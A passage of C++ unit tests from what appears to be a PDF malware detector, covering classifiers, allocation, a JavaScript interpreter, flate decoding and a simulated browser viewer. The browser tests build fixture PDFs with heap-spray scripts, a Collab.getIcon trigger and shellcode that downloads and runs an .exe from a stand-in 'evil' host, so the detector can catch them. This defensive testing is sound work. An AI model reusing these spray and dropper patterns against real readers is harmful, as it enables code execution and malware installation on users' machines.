  svm.train(data, rng);
  EXPECT_GT(svm.decision({3.0, 3.0}), 0);
  EXPECT_LT(svm.decision({-3.0, -3.0}), 0);
}

TEST(DecisionTree, FitsXorThatDefeatsLinearModels) {
  sp::Rng rng(4);
  ml::Dataset data = xor_dataset(60, rng);
  ml::Split split = ml::train_test_split(data, 0.7, rng);

  ml::LinearSvm svm;
  svm.train(split.train, rng);
  ml::Metrics linear = ml::evaluate(
      [&](const ml::FeatureVector& x) { return svm.predict(x); }, split.test);

  ml::DecisionTree tree;
  tree.train(split.train, rng);
  ml::Metrics treed = ml::evaluate(
      [&](const ml::FeatureVector& x) { return tree.predict(x); }, split.test);

  EXPECT_GT(treed.accuracy(), 0.95) << treed.summary();
  EXPECT_LT(linear.accuracy(), 0.8) << linear.summary();
}

TEST(DecisionTree, RespectsMaxDepth) {
  sp::Rng rng(5);
  ml::Dataset data = xor_dataset(40, rng);
  ml::DecisionTree::Config cfg;
  cfg.max_depth = 0;  // stump-less: a single leaf
  ml::DecisionTree tree(cfg);
  tree.train(data, rng);
  EXPECT_EQ(tree.node_count(), 1u);
}

TEST(DecisionTree, PureLeafProbabilities) {
  sp::Rng rng(6);
  ml::Dataset data;
  for (int i = 0; i < 20; ++i) {
    data.add({static_cast<double>(i)}, i < 10 ? 0 : 1);
  }
  ml::DecisionTree tree;
  tree.train(data, rng);
  EXPECT_DOUBLE_EQ(tree.predict_proba({0.0}), 0.0);
  EXPECT_DOUBLE_EQ(tree.predict_proba({19.0}), 1.0);
}

TEST(RandomForest, BeatsNoiseOnBlobs) {
  sp::Rng rng(7);
  ml::Dataset data = gaussian_blobs(150, 1.5, rng);
  ml::Split split = ml::train_test_split(data, 0.7, rng);
  ml::RandomForest forest;
  forest.train(split.train, rng);
  ml::Metrics m = ml::evaluate(
      [&](const ml::FeatureVector& x) { return forest.predict(x); }, split.test);
  EXPECT_GT(m.accuracy(), 0.9) << m.summary();
  EXPECT_EQ(forest.tree_count(), 25u);
}

TEST(RandomForest, ProbaIsAveragedVote) {
  sp::Rng rng(8);
  ml::Dataset data = gaussian_blobs(100, 3.0, rng);
  ml::RandomForest forest;
  forest.train(data, rng);
  EXPECT_GT(forest.predict_proba({3.0, 3.0}), 0.8);
  EXPECT_LT(forest.predict_proba({-3.0, -3.0}), 0.2);
}

TEST(NaiveBayes, LearnsBernoulliPattern) {
  // Feature 0 present => malicious; feature 1 is noise.
  sp::Rng rng(9);
  ml::Dataset data;
  for (int i = 0; i < 200; ++i) {
    const int label = i % 2;
    const double noisy = rng.chance(0.5) ? 1.0 : 0.0;
    data.add({label ? 1.0 : 0.0, noisy}, label);
  }
  ml::NaiveBayes nb;
  nb.train(data);
  EXPECT_EQ(nb.predict({1.0, 0.0}), 1);
  EXPECT_EQ(nb.predict({0.0, 1.0}), 0);
  EXPECT_GT(nb.log_odds({1.0, 1.0}), 0);
}

TEST(OneClass, AcceptsTargetRejectsOutliers) {
  sp::Rng rng(10);
  std::vector<ml::FeatureVector> target;
  for (int i = 0; i < 200; ++i) {
    target.push_back({5.0 + rng.uniform01(), 5.0 + rng.uniform01()});
  }
  ml::OneClassCentroid oc;
  oc.train(target);
  EXPECT_EQ(oc.predict({5.5, 5.5}), 1);
  EXPECT_EQ(oc.predict({-10.0, -10.0}), 0);
  EXPECT_GT(oc.distance({-10.0, -10.0}), oc.radius());
}

TEST(OneClass, EmptyTrainingIsSafe) {
  ml::OneClassCentroid oc;
  oc.train({});
  EXPECT_EQ(oc.predict({1.0}), 1);  // degenerate: distance 0 <= radius 0
}

// Parameterized robustness sweep: classifiers stay accurate across seeds.
class MlSeedSweep : public ::testing::TestWithParam<int> {};

TEST_P(MlSeedSweep, ForestAndSvmConvergeAcrossSeeds) {
  sp::Rng rng(static_cast<std::uint64_t>(GetParam()));
  ml::Dataset data = gaussian_blobs(120, 2.0, rng);
  ml::Split split = ml::train_test_split(data, 0.75, rng);

  ml::LinearSvm svm;
  svm.train(split.train, rng);
  EXPECT_GT(ml::evaluate([&](const ml::FeatureVector& x) { return svm.predict(x); },
                         split.test)
                .accuracy(),
            0.85);

  ml::RandomForest::Config fc;
  fc.n_trees = 15;
  ml::RandomForest forest(fc);
  forest.train(split.train, rng);
  EXPECT_GT(ml::evaluate(
                [&](const ml::FeatureVector& x) { return forest.predict(x); },
                split.test)
                .accuracy(),
            0.85);
}

INSTANTIATE_TEST_SUITE_P(Seeds, MlSeedSweep, ::testing::Range(100, 110));
