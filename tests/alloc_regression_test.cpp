// Allocation-regression guard for the arena architecture. This binary
// replaces global operator new with a counting wrapper, so the tests can
// pin the two guarantees the batch scanner's steady state depends on:
//
//  1. An arena replaying an allocation pattern after reset() performs
//     ZERO heap allocations — chunks are retained and reused bit-for-bit.
//  2. Re-parsing a document into a reset arena adds no arena chunks and
//     performs exactly the same (much smaller) heap traffic as any other
//     warm pass — a copy regression in the parse path shows up here as a
//     deterministic count mismatch, long before it moves a benchmark.
#include <gtest/gtest.h>

#include <atomic>
#include <cstdlib>
#include <memory>
#include <new>
#include <string>

#include "pdf/document.hpp"
#include "pdf/parser.hpp"
#include "support/alloc_stats.hpp"
#include "support/arena.hpp"
#include "support/bytes.hpp"

// GCC pairs delete calls in this TU against the not-replaced-here default
// operator new and warns; the pairing is malloc/free on both sides.
#if defined(__GNUC__) && !defined(__clang__)
#pragma GCC diagnostic ignored "-Wmismatched-new-delete"
#endif

namespace {
std::atomic<std::uint64_t> g_heap_allocs{0};
}  // namespace

void* operator new(std::size_t size) {
  g_heap_allocs.fetch_add(1, std::memory_order_relaxed);
  if (void* p = std::malloc(size)) return p;
  throw std::bad_alloc();
}
void* operator new(std::size_t size, const std::nothrow_t&) noexcept {
  g_heap_allocs.fetch_add(1, std::memory_order_relaxed);
  return std::malloc(size);
}
void* operator new[](std::size_t size) {
  g_heap_allocs.fetch_add(1, std::memory_order_relaxed);
  if (void* p = std::malloc(size)) return p;
  throw std::bad_alloc();
}
void operator delete(void* p) noexcept { std::free(p); }
void operator delete(void* p, std::size_t) noexcept { std::free(p); }
void operator delete(void* p, const std::nothrow_t&) noexcept { std::free(p); }
void operator delete[](void* p) noexcept { std::free(p); }
void operator delete[](void* p, std::size_t) noexcept { std::free(p); }

namespace sp = pdfshield::support;
namespace pd = pdfshield::pdf;

namespace {

std::uint64_t heap_allocs() {
  return g_heap_allocs.load(std::memory_order_relaxed);
}

std::string sample_pdf() {
  std::string doc = "%PDF-1.7\n";
  doc += "1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>\nendobj\n";
  doc += "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n";
  doc += "3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n";
  doc += "4 0 obj\n<< /Length 11 >>\nstream\nhello world\nendstream\nendobj\n";
  doc += "5 0 obj\n<< /S /JavaScript /JS (var a = 1; app.alert\\(a\\);) >>\nendobj\n";
  doc += "trailer\n<< /Root 1 0 R /Size 6 >>\nstartxref\n0\n%%EOF\n";
  return doc;
}

}  // namespace

TEST(AllocRegression, ArenaReplayAfterResetIsHeapFree) {
  sp::Arena arena(/*first_chunk=*/256);
  auto pattern = [&] {
    // Mixed sizes and alignments, crossing several chunk boundaries — the
    // shape of a real parse (names, container nodes, decoded payloads).
    for (int i = 0; i < 200; ++i) {
      arena.allocate(static_cast<std::size_t>(7 + (i * 13) % 300),
                     (i % 3) == 0 ? 8 : 1);
    }
    arena.copy_string("JavaScript");
  };
  pattern();  // warm-up pass: grows the arena to its high-water mark
  arena.reset();

  const std::uint64_t chunk_allocs = arena.chunk_allocations();
  const std::uint64_t heap_before = heap_allocs();
  pattern();  // replay
  EXPECT_EQ(heap_allocs() - heap_before, 0u)
      << "arena replay after reset() must not touch the heap";
  EXPECT_EQ(arena.chunk_allocations(), chunk_allocs);
  arena.reset();
  const std::uint64_t heap_before2 = heap_allocs();
  pattern();  // and it stays heap-free on every subsequent pass
  EXPECT_EQ(heap_allocs() - heap_before2, 0u);
}

TEST(AllocRegression, WarmParsePassesAreChunkFreeAndDeterministic) {
  const sp::Bytes data = sp::to_bytes(sample_pdf());
  auto arena = std::make_shared<sp::Arena>();

  // Cold pass: pays for chunks, interner misses, and lexer warm-up.
  const std::uint64_t cold_before = heap_allocs();
  { pd::Document doc = pd::parse_document(data, nullptr, arena); }
  const std::uint64_t cold_allocs = heap_allocs() - cold_before;
  arena->reset();

  const std::uint64_t warm_chunks = arena->chunk_allocations();
  std::uint64_t warm_allocs = 0;
  for (int pass = 0; pass < 3; ++pass) {
    const std::uint64_t before = heap_allocs();
    const sp::AllocScope scope;
    { pd::Document doc = pd::parse_document(data, nullptr, arena); }
    // alloc_stats view of the same guarantee: warm passes register PDF
    // objects (Table XI semantics) but zero new bytes — no arena chunk
    // growth, no interner insertions.
    EXPECT_GT(scope.objects(), 0u);
    EXPECT_EQ(scope.bytes(), 0u) << "pass " << pass;
    const std::uint64_t allocs = heap_allocs() - before;
    if (pass == 0) {
      warm_allocs = allocs;
    } else {
      // Same input + warm arena + warm interner => bit-identical heap
      // behaviour. Any drift is a copy sneaking back into the parse path.
      EXPECT_EQ(allocs, warm_allocs) << "pass " << pass;
    }
    arena->reset();
  }
  EXPECT_EQ(arena->chunk_allocations(), warm_chunks)
      << "warm parses must reuse retained chunks, never allocate new ones";
  EXPECT_LT(warm_allocs, cold_allocs);
}
