// Deep semantic sweep for the Javascript engine: each case is a small
// program whose global `result` must equal the expected number or string.
// Covers the idioms real-world (malicious and benign) Acrobat scripts
// lean on: closures, coercions, member compound-ops, control flow,
// builders for shellcode strings.
#include <gtest/gtest.h>

#include "js/interp.hpp"
#include "support/error.hpp"

namespace js = pdfshield::js;
namespace sp = pdfshield::support;

namespace {

js::Value run(const std::string& src) {
  js::Interpreter in;
  in.run_source(src);
  js::Value* v = in.globals()->lookup("result");
  return v ? *v : js::Value();
}

}  // namespace

struct NumCase {
  const char* src;
  double expect;
};

class JsNumSweep : public ::testing::TestWithParam<NumCase> {};

TEST_P(JsNumSweep, NumericResult) {
  const auto& p = GetParam();
  const js::Value v = run(p.src);
  ASSERT_TRUE(v.is_number()) << p.src;
  EXPECT_DOUBLE_EQ(v.as_number(), p.expect) << p.src;
}

INSTANTIATE_TEST_SUITE_P(
    ControlFlow, JsNumSweep,
    ::testing::Values(
        NumCase{"var result = 0; for (var i = 0; i < 5; i++) { if (i == 2)"
                " continue; result += i; }",
                8},
        NumCase{"var result = 0; var i = 0; while (true) { if (++i > 4)"
                " break; result += i; }",
                10},
        NumCase{"var result = 0; do { result++; } while (false);", 1},
        NumCase{"var result = 0; outer_done = false; for (var a = 0; a < 3;"
                " a++) { for (var b = 0; b < 3; b++) { if (b == 1) break;"
                " result++; } }",
                3},
        NumCase{"var result; switch ('b') { case 'a': result = 1; break;"
                " case 'b': result = 2; break; default: result = 3; }",
                2},
        NumCase{"var result = 0; try { result = 1; throw 5; } catch (e) {"
                " result += e; } finally { result *= 2; }",
                12},
        NumCase{"function f() { try { return 1; } finally { side = 9; } }"
                " var result = f() + side;",
                10}));

INSTANTIATE_TEST_SUITE_P(
    FunctionsAndClosures, JsNumSweep,
    ::testing::Values(
        NumCase{"function make(n) { return function(x) { return x + n; }; }"
                " var add3 = make(3); var add7 = make(7);"
                " var result = add3(10) + add7(10);",
                30},
        NumCase{"var fns = []; for (var i = 0; i < 3; i++) {"
                " fns.push((function(k) { return function() { return k; };"
                " })(i)); } var result = fns[0]() + fns[1]() + fns[2]();",
                3},
        NumCase{"function fact(n) { return n <= 1 ? 1 : n * fact(n - 1); }"
                " var result = fact(6);",
                720},
        NumCase{"var obj = { n: 5, double: function() { this.n *= 2;"
                " return this.n; } }; obj.double(); var result = obj.double();",
                20},
        NumCase{"function f() { return arguments[0] + arguments[2]; }"
                " var result = f(1, 99, 2);",
                3},
        NumCase{"var result = (function() { var t = 0; for (var i in"
                " {a:1, b:1, c:1}) t++; return t; })();",
                3}));

INSTANTIATE_TEST_SUITE_P(
    CoercionsAndOperators, JsNumSweep,
    ::testing::Values(
        NumCase{"var result = +'3.5' + +true + +null;", 4.5},
        NumCase{"var result = '10' - 3;", 7},
        NumCase{"var result = '0x20' * 1;", 32},
        NumCase{"var result = (1 < 2) + (3 > 4);", 1},
        NumCase{"var result = 0xFF & ~0x0F;", 0xF0},
        NumCase{"var result = ((1 << 4) | 3) ^ 2;", 17},
        NumCase{"var result = -9 % 5;", -4},
        NumCase{"var result = 7 / 2 | 0;", 3},
        NumCase{"var x = 5; var result = (x += 2, x *= 3, x);", 21},
        NumCase{"var a = {v: 1}; a.v += 9; a['v'] *= 2; var result = a.v;", 20},
        NumCase{"var arr = [10]; arr[0]--; var result = arr[0];", 9},
        NumCase{"var result = [] + 1 === '1' ? 42 : 0;", 42},
        NumCase{"var result = ('5' == 5 && '5' !== 5) ? 1 : 0;", 1}));

INSTANTIATE_TEST_SUITE_P(
    StringsAndArrays, JsNumSweep,
    ::testing::Values(
        NumCase{"var s = ''; for (var i = 0; i < 4; i++) s +="
                " String.fromCharCode(65 + i); var result = s.charCodeAt(3);",
                68},
        NumCase{"var result = 'abcdef'.indexOf('cd') + 'abcdef'"
                ".lastIndexOf('f');",
                7},
        NumCase{"var result = unescape('%u4141').length +"
                " unescape('%41').length;",
                3},
        NumCase{"var parts = 'a-b-c-d'.split('-'); var result = parts.length"
                " * parts[2].charCodeAt(0);",
                396},
        NumCase{"var a = [5, 3, 1]; a.sort(); var result = Number(a[0]) * 100"
                " + Number(a[2]);",
                105},
        NumCase{"var a = [1, 2]; var b = a.concat([3, 4], 5); var result ="
                " b.length + b[4];",
                10},
        NumCase{"var a = []; a[9] = 1; var result = a.length;", 10},
        NumCase{"var sled = unescape('%u9090'); while (sled.length < 256)"
                " sled += sled; var result = sled.length;",
                256},
        NumCase{"var cc = [104, 105]; var s = ''; for (var i = 0; i <"
                " cc.length; i++) s += String.fromCharCode(cc[i]);"
                " var result = s == 'hi' ? 1 : 0;",
                1},
        NumCase{"var result = 'AbC'.toLowerCase().charCodeAt(0);", 97}));

struct StrCase {
  const char* src;
  const char* expect;
};

class JsStrSweep : public ::testing::TestWithParam<StrCase> {};

TEST_P(JsStrSweep, StringResult) {
  const auto& p = GetParam();
  const js::Value v = run(p.src);
  ASSERT_TRUE(v.is_string()) << p.src;
  EXPECT_EQ(v.as_string(), p.expect) << p.src;
}

INSTANTIATE_TEST_SUITE_P(
    Strings, JsStrSweep,
    ::testing::Values(
        StrCase{"var result = typeof (void 0);", "undefined"},
        StrCase{"var result = [1, [2, 3]].toString();", "1,2,3"},
        StrCase{"var result = ('' + 1.5).replace('.', '_');", "1_5"},
        StrCase{"var result = 'x' + null + undefined;", "xnullundefined"},
        StrCase{"var result = ['b','a'].sort().join('');", "ab"},
        StrCase{"var result = 'hello world'.substring(6).toUpperCase();",
                "WORLD"},
        StrCase{"var o = {}; o['k' + 1] = 'v'; var result = o.k1;", "v"},
        StrCase{"var result = eval(\"'ev' + 'al'\");", "eval"},
        StrCase{"function F() { this.tag = 'built'; } var result ="
                " new F().tag;",
                "built"},
        StrCase{"var result = escape('a b');", "a%20b"}));

// Error-path semantics.
TEST(JsSemantics, ThrownObjectsCarryProperties) {
  js::Interpreter in;
  in.run_source(
      "var result; try { throw {code: 7, msg: 'bad'}; }"
      " catch (e) { result = e.msg + e.code; }");
  EXPECT_EQ(in.globals()->lookup("result")->as_string(), "bad7");
}

TEST(JsSemantics, CatchScopeDoesNotLeak) {
  js::Interpreter in;
  in.run_source("try { throw 1; } catch (err) {} var result = typeof err;");
  EXPECT_EQ(in.globals()->lookup("result")->as_string(), "undefined");
}

TEST(JsSemantics, VarHoistsOutOfBlocksButNotFunctions) {
  js::Interpreter in;
  in.run_source(
      "if (true) { var hoisted = 1; }"
      "function f() { var local = 2; }"
      "f();"
      "var result = '' + (typeof hoisted) + '/' + (typeof local);");
  EXPECT_EQ(in.globals()->lookup("result")->as_string(), "number/undefined");
}

TEST(JsSemantics, DeleteRemovesProperties) {
  js::Interpreter in;
  in.run_source(
      "var o = {a: 1, b: 2}; delete o.a;"
      "var result = ('a' in o ? 10 : 0) + ('b' in o ? 1 : 0);");
  EXPECT_DOUBLE_EQ(in.globals()->lookup("result")->as_number(), 1.0);
}

TEST(JsSemantics, NestedEvalSeesEnclosingLocals) {
  js::Interpreter in;
  in.run_source(
      "function outer() { var secret = 21;"
      " return eval('eval(\"secret * 2\")'); }"
      "var result = outer();");
  EXPECT_DOUBLE_EQ(in.globals()->lookup("result")->as_number(), 42.0);
}

TEST(JsSemantics, NaNPropagatesAndComparesFalse) {
  js::Interpreter in;
  in.run_source(
      "var n = Number('not-a-number');"
      "var result = (n == n ? 1 : 0) + (isNaN(n + 5) ? 10 : 0);");
  EXPECT_DOUBLE_EQ(in.globals()->lookup("result")->as_number(), 10.0);
}
