// Tests for the in-browser viewer (§VI future work, built out):
// progressive-rendering semantics, browser background noise vs the
// detector, multi-tab attribution, and end-to-end detection of a
// malicious PDF opened inside the browser.
#include <gtest/gtest.h>

#include "core/detector.hpp"
#include "core/pipeline.hpp"
#include "corpus/builders.hpp"
#include "corpus/generator.hpp"
#include "reader/browser_sim.hpp"
#include "reader/shellcode.hpp"
#include "sys/kernel.hpp"

namespace co = pdfshield::core;
namespace cp = pdfshield::corpus;
namespace rd = pdfshield::reader;
namespace sy = pdfshield::sys;
namespace sp = pdfshield::support;

namespace {

sp::Bytes dropper_pdf(sp::Rng& rng, const std::string& tag) {
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://evil/" + tag + ".exe", "c:/" + tag + ".exe"}});
  prog.ops.push_back({"EXEC", {"c:/" + tag + ".exe"}});
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js(
      "var unit = unescape('%u9090%u9090') + '" +
      rd::encode_shellcode(prog) + "';"
      "var spray = unit; while (spray.length < 2097152) spray += spray;"
      "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
  return builder.build();
}

struct BrowserHarness {
  sy::Kernel kernel;
  sp::Rng rng{7};
  std::unique_ptr<co::RuntimeDetector> detector;
  std::unique_ptr<co::FrontEnd> frontend;
  std::unique_ptr<rd::BrowserSim> browser;

  BrowserHarness() {
    co::DetectorConfig cfg;
    // §VI: "new runtime features for browsers" — here, the whitelist
    // covers the browser's own sandboxed helper processes.
    cfg.process_whitelist.push_back("browser-helper.exe");
    detector = std::make_unique<co::RuntimeDetector>(kernel, rng, cfg);
    frontend = std::make_unique<co::FrontEnd>(rng, detector->detector_id());
    browser = std::make_unique<rd::BrowserSim>(kernel);
    detector->attach(browser->viewer());
  }

  co::InstrumentationKey instrument_and_register(const sp::Bytes& file,
                                                 const std::string& name,
                                                 sp::Bytes* out) {
    co::FrontEndResult fe = frontend->process(file);
    EXPECT_TRUE(fe.ok);
    detector->register_document(fe.record.key, name, fe.features);
    *out = fe.output;
    return fe.record.key;
  }
};

}  // namespace

TEST(Browser, WebPagesMakeNoiseWithoutAlerts) {
  BrowserHarness h;
  for (int i = 0; i < 9; ++i) {
    h.browser->open_web_page("https://site-" + std::to_string(i) + ".example");
  }
  EXPECT_EQ(h.browser->tab_count(), 9u);
  EXPECT_TRUE(h.detector->alerts().empty());
  // Helpers spawned and network chatter happened...
  EXPECT_GT(h.kernel.net().log().size(), 20u);
  bool helper_running = false;
  for (const auto& [pid, proc] : h.kernel.processes()) {
    if (proc->image() == "browser-helper.exe" && !proc->terminated()) {
      helper_running = true;
    }
  }
  EXPECT_TRUE(helper_running) << "whitelisted helpers must not be blocked";
}

TEST(Browser, MaliciousPdfTabDetectedAmidBrowserNoise) {
  BrowserHarness h;
  h.browser->open_web_page("https://news.example");
  h.browser->open_web_page("https://mail.example");

  sp::Bytes instrumented;
  const auto key = h.instrument_and_register(dropper_pdf(h.rng, "tabbed"),
                                             "tabbed.pdf", &instrumented);
  h.browser->open_pdf(instrumented, "tabbed.pdf");
  h.browser->open_web_page("https://blog.example");

  const co::Verdict v = h.detector->verdict(key);
  EXPECT_TRUE(v.malicious);
  EXPECT_TRUE(h.kernel.fs().exists("quarantine://c:/tabbed.exe"));
  // Exactly one alert: tabs full of web noise were not blamed.
  EXPECT_EQ(h.detector->alerts().size(), 1u);
}

TEST(Browser, ProgressiveOpenRunsEachScriptOnce) {
  BrowserHarness h;
  sp::Rng rng(9);
  cp::DocumentBuilder builder(rng);
  builder.add_pages(4, 800);
  builder.set_open_action_js("var opened = 1;");
  const sp::Bytes file = builder.build();

  auto r = h.browser->open_pdf_streaming(file, "progressive.pdf", 5);
  EXPECT_TRUE(r.parsed);
  EXPECT_TRUE(r.js_ran);
  // The script's object completes in some chunk and runs exactly once,
  // even though later chunks re-present it.
  EXPECT_EQ(r.scripts_executed, 1u);
}

TEST(Browser, ProgressiveOpenStillDetectsInstrumentedAttack) {
  BrowserHarness h;
  sp::Bytes instrumented;
  const auto key = h.instrument_and_register(dropper_pdf(h.rng, "stream"),
                                             "stream.pdf", &instrumented);
  auto r = h.browser->open_pdf_streaming(instrumented, "stream.pdf", 7);
  EXPECT_TRUE(r.js_ran);
  EXPECT_TRUE(h.detector->verdict(key).malicious);
  EXPECT_TRUE(h.kernel.fs().exists("quarantine://c:/stream.exe"));
}

TEST(Browser, ProgressiveRenderExploitWaitsForFinalChunk) {
  // A render-context exploit (Flash) cannot fire from a half-downloaded
  // payload; the viewer renders embedded content only on the final chunk.
  BrowserHarness h;
  sp::Rng rng(10);
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://evil/fl.exe", "c:/fl.exe"}});
  cp::DocumentBuilder builder(rng);
  builder.add_blank_page();
  builder.set_open_action_js(
      "var unit = unescape('%u9090%u9090') + '" +
      rd::encode_shellcode(prog) + "';"
      "var spray = unit; while (spray.length < 2097152) spray += spray;"
      "var keep = spray;");
  builder.add_render_exploit("CVE-2010-3654", "Flash");
  const sp::Bytes file = builder.build();

  auto r = h.browser->open_pdf_streaming(file, "flash-stream.pdf", 4);
  // Fired exactly once (on the final chunk), not once per chunk.
  EXPECT_EQ(r.fired_cves.size(), 1u);
}

TEST(Browser, BenignPdfInBrowserStaysClean) {
  BrowserHarness h;
  cp::CorpusGenerator gen;
  for (const auto& s : gen.generate_benign_with_js(6)) {
    sp::Bytes instrumented;
    const auto key = h.instrument_and_register(s.data, s.name, &instrumented);
    h.browser->open_pdf_streaming(instrumented, s.name, 3);
    EXPECT_FALSE(h.detector->verdict(key).malicious) << s.name;
  }
  EXPECT_TRUE(h.detector->alerts().empty());
}

TEST(Browser, SharedProcessMemoryDoesNotConfuseContextAwareF8) {
  // Browser baseline (~180 MB) + web tabs exceed the 100 MB threshold in
  // absolute terms long before any PDF opens; per-context deltas keep the
  // F8 feature quiet for benign documents.
  BrowserHarness h;
  for (int i = 0; i < 4; ++i) {
    h.browser->open_web_page("https://heavy-" + std::to_string(i) + ".example");
  }
  ASSERT_GT(h.browser->process().memory_bytes(), 200ull << 20);
  sp::Rng rng(11);
  cp::DocumentBuilder builder(rng);
  builder.add_pages(2, 400);
  builder.set_open_action_js("var modest = 'x'; while (modest.length < 2048)"
                             " modest += modest;");
  sp::Bytes instrumented;
  const auto key = h.instrument_and_register(builder.build(), "modest.pdf",
                                             &instrumented);
  h.browser->open_pdf(instrumented, "modest.pdf");
  const co::DocumentState* st = h.detector->state(key);
  ASSERT_NE(st, nullptr);
  EXPECT_FALSE(st->runtime_features.count(co::Feature::kF8_MemoryConsumption));
  EXPECT_FALSE(h.detector->verdict(key).malicious);
}
