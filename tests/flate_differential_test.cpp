// Differential test: the fast table-driven inflate in src/flate must be
// byte-identical to the retained reference scalar decoder on every
// FlateDecode stream the corpus generator can produce, and on both deflate
// strategies' output. The reference decoder (tests/reference_inflate.hpp)
// is the pre-rewrite implementation kept as an oracle.
#include <gtest/gtest.h>

#include <string>

#include "corpus/generator.hpp"
#include "flate/zlib.hpp"
#include "pdf/object.hpp"
#include "pdf/parser.hpp"
#include "reference_inflate.hpp"
#include "support/bytes.hpp"
#include "support/error.hpp"
#include "support/rng.hpp"

namespace pdfshield {
namespace {

using support::Bytes;
using support::BytesView;

/// Runs both decoders on a zlib stream and cross-checks: equal bytes on
/// success, or both throwing DecodeError. Returns true if the stream was
/// decodable (so callers can count coverage).
bool cross_check_zlib(BytesView stream, const std::string& context) {
  Bytes fast;
  bool fast_ok = true;
  std::string fast_err;
  try {
    fast = flate::zlib_decompress(stream);
  } catch (const support::DecodeError& e) {
    fast_ok = false;
    fast_err = e.what();
  }

  Bytes ref;
  bool ref_ok = true;
  std::string ref_err;
  try {
    ref = reference::zlib_decompress(stream);
  } catch (const support::DecodeError& e) {
    ref_ok = false;
    ref_err = e.what();
  }

  EXPECT_EQ(fast_ok, ref_ok) << context << ": decoders disagree on validity"
                             << " (fast: " << (fast_ok ? "ok" : fast_err)
                             << ", reference: " << (ref_ok ? "ok" : ref_err)
                             << ")";
  if (fast_ok && ref_ok) {
    EXPECT_EQ(fast.size(), ref.size()) << context;
    EXPECT_TRUE(fast == ref) << context << ": decoded bytes differ";
  }
  return fast_ok && ref_ok;
}

/// Collects every FlateDecode candidate stream from a parsed document and
/// cross-checks it. A stream whose first filter is FlateDecode carries a
/// zlib container as its raw bytes.
int cross_check_document(BytesView pdf_bytes, const std::string& name) {
  pdf::Document doc = pdf::parse_document(pdf_bytes);
  int checked = 0;
  for (auto& [num, obj] : doc.objects()) {
    if (!obj.is_stream()) continue;
    const pdf::Stream& s = obj.as_stream();
    const pdf::Object* filter = s.dict.find("Filter");
    if (!filter) continue;
    bool is_flate = false;
    if (filter->is_name()) {
      is_flate = filter->as_name().value == "FlateDecode";
    } else if (filter->is_array() && !filter->as_array().empty() &&
               filter->as_array().front().is_name()) {
      is_flate = filter->as_array().front().as_name().value == "FlateDecode";
    }
    if (!is_flate) continue;
    // DecodeParms (predictors) apply after inflate, so the raw stream body
    // is still a plain zlib container either way.
    if (cross_check_zlib(s.data, name + " obj " + std::to_string(num))) {
      ++checked;
    }
  }
  return checked;
}

TEST(FlateDifferentialTest, CorpusStreamsDecodeIdentically) {
  corpus::CorpusConfig config;
  config.seed = 0x5EED0002;
  // Keep sprays small: this test is about stream coverage, not volume.
  config.spray_min_bytes = 16u << 10;
  config.spray_max_bytes = 64u << 10;
  corpus::CorpusGenerator gen(config);

  int streams_checked = 0;
  for (const corpus::Sample& sample : gen.generate_benign(12)) {
    streams_checked += cross_check_document(sample.data, sample.name);
  }
  for (const corpus::Sample& sample : gen.generate_malicious(12)) {
    streams_checked += cross_check_document(sample.data, sample.name);
  }
  // The corpus must actually exercise the decoder; if generation stops
  // emitting FlateDecode streams this test silently proves nothing.
  EXPECT_GE(streams_checked, 8)
      << "corpus produced too few FlateDecode streams for a meaningful "
         "differential run";
}

TEST(FlateDifferentialTest, BothDeflateStrategiesRoundTripThroughReference) {
  support::Rng rng(0xD1FF);
  const std::size_t sizes[] = {0, 1, 3, 64, 257, 4096, 70000};
  for (std::size_t n : sizes) {
    // Compressible: repeated text with periodic structure (exercises
    // overlapped back-references in both decoders).
    Bytes text;
    text.reserve(n);
    const std::string phrase = "the quick brown fox jumps over the lazy dog. ";
    while (text.size() < n) {
      const std::size_t take = std::min(phrase.size(), n - text.size());
      text.insert(text.end(), phrase.begin(), phrase.begin() + take);
    }
    // Near-incompressible: raw RNG bytes (mostly literals).
    Bytes noise(n);
    for (auto& b : noise) b = static_cast<std::uint8_t>(rng.below(256));

    for (const Bytes* input : {&text, &noise}) {
      for (flate::DeflateStrategy strategy :
           {flate::DeflateStrategy::kStored,
            flate::DeflateStrategy::kFixedHuffman}) {
        const Bytes z = flate::zlib_compress(*input, strategy);
        const Bytes via_ref = reference::zlib_decompress(z);
        const Bytes via_fast = flate::zlib_decompress(z);
        ASSERT_TRUE(via_ref == *input)
            << "reference decoder failed round-trip at n=" << n;
        ASSERT_TRUE(via_fast == via_ref)
            << "decoders disagree at n=" << n;
      }
    }
  }
}

TEST(FlateDifferentialTest, ReferenceRejectsWhatFastRejects) {
  // Truncations of a valid stream: both decoders must agree on every
  // prefix (either both decode — impossible here — or both throw).
  Bytes payload;
  for (int i = 0; i < 2000; ++i) {
    payload.push_back(static_cast<std::uint8_t>('a' + (i * 7) % 23));
  }
  const Bytes z = flate::zlib_compress(payload);
  for (std::size_t cut : {z.size() - 1, z.size() - 5, z.size() / 2,
                          std::size_t{8}, std::size_t{7}}) {
    cross_check_zlib(BytesView(z.data(), cut),
                     "truncated at " + std::to_string(cut));
  }
}

}  // namespace
}  // namespace pdfshield
