// Tests for xref reading + writer conformance: every file our writers
// produce must carry a spec-correct cross-reference table, because real
// tools (unlike our deliberately tolerant parser) trust it.
#include <gtest/gtest.h>

#include "core/pipeline.hpp"
#include "corpus/builders.hpp"
#include "corpus/generator.hpp"
#include "pdf/parser.hpp"
#include "pdf/writer.hpp"
#include "pdf/xref.hpp"

namespace co = pdfshield::core;
namespace cp = pdfshield::corpus;
namespace pd = pdfshield::pdf;
namespace sp = pdfshield::support;

TEST(Xref, StartxrefFoundAndPointsAtTable) {
  sp::Rng rng(1);
  cp::DocumentBuilder builder(rng);
  builder.add_pages(3, 400);
  const sp::Bytes file = builder.build();
  auto sx = pd::read_startxref(file);
  ASSERT_TRUE(sx.has_value());
  const pd::XrefSection section = pd::read_xref_section(file, *sx);
  EXPECT_GT(section.entries.size(), 5u);
  EXPECT_FALSE(section.prev.has_value());
  // Object 0 is the free-list head.
  ASSERT_TRUE(section.entries.count(0));
  EXPECT_FALSE(section.entries.at(0).in_use);
}

TEST(Xref, WriterOffsetsAreExact) {
  sp::Rng rng(2);
  cp::DocumentBuilder builder(rng);
